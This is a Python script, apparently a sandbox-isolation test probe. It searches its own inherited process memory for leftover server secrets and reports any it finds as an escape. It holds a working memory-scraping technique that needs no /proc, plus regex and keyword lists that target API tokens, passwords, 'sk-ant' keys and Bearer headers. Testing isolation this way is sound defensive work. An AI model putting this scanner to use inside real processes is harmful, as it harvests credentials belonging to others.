"""Searches all of its memory, which was the server's, for keys and for settings that were never meant for it.

Stopped by: clean zygote
"""

# Without /proc, which not every box has: what nothing can be mapped over is mapped, and the kernel copies what can be
# read through a pipe, so that a hole in the map ends nothing.

import ctypes
import mmap
import os
import re

PAGE = mmap.PAGESIZE
NOREPLACE, ASYNC = 0x100022, 1  # MAP_FIXED_NOREPLACE | MAP_ANONYMOUS | MAP_PRIVATE; MS_ASYNC
NUMBER = ctypes.c_size_t
libc = ctypes.CDLL(None, use_errno=True)
libc.getauxval.restype = libc.mmap.restype = NUMBER
libc.write.restype = ctypes.c_ssize_t

# As an environment has them, and as they are sent. Each pattern and each word is cut, so that it does not find itself.
PATTERN = re.compile(
    rb"\0((?:[B]ELLJAR_[A-Z]+|[A-Z]+_(?:[T]OKEN|[S]ECRET|[A]PI_KEY|[P]ASSWORD)|[P]YTEST_CURRENT_TEST|[S]SH_CONNECTION)"
    rb"=[!-~]{4,80}|[s]k-ant-[a-z0-9-]{8,80}|[A]uthorization: Bearer [!-~]{8,80})"
)
WORDS = (b"OKEN=", b"ECRET=", b"_KEY=", b"SSWORD=", b"LLJAR_", b"_TEST=", b"NECTION=", b"sk-ant", b"Bearer ")
CHUNK, MARGIN, PIPE = 1 << 20, 256, 1 << 16
data = bytearray(CHUNK + MARGIN)
view = memoryview(data)
reading, writing = os.pipe()


def mapped(start, end):
    """The mapped ranges between two addresses."""
    at, size = NUMBER(start), NUMBER(end - start)
    if libc.mmap(at, size, 0, NOREPLACE, -1, NUMBER(0)) == start:
        libc.munmap(at, size)
    elif libc.msync(at, size, ASYNC) == 0:  # there is no hole in it
        yield start, end
    elif end - start > PAGE:
        middle = (start + end) // 2 // PAGE * PAGE
        yield from mapped(start, middle)
        yield from mapped(middle, end)


def copied(at, size):
    """How much of the memory there is in `data` now."""
    filled = 0
    while filled < size:
        count = libc.write(writing, NUMBER(at + filled), NUMBER(min(PIPE, size - filled)))
        if count <= 0:
            break
        filled += os.readv(reading, [view[filled : filled + count]])
    return filled


top = 1 << libc.getauxval(NUMBER(31)).bit_length()  # AT_EXECFN stands at the end of the stack
ranges = []
for start, end in mapped(1 << 16, top):
    if ranges and ranges[-1][1] == start:
        start = ranges.pop()[0]
    ranges.append((start, end))
found, searched = set(), 0
for at, end in ranges:
    while at < end:
        # Longer than a chunk, for what stands across its end.
        wanted = min(CHUNK + MARGIN, end - at)
        size = copied(at, wanted)
        searched += size
        for word in WORDS:
            place = data.find(word, 0, size)
            while place >= 0:
                found.update(PATTERN.findall(bytes(data[max(0, place - MARGIN) : min(size, place + MARGIN)])))
                place = data.find(word, place + 1, size)
        at += CHUNK if size == wanted else size // PAGE * PAGE + PAGE
os.close(reading)
os.close(writing)
for text in sorted(found):
    print("ESCAPED: in memory", text)
assert searched > 1 << 22, "it found less than an interpreter has"
print("tried")
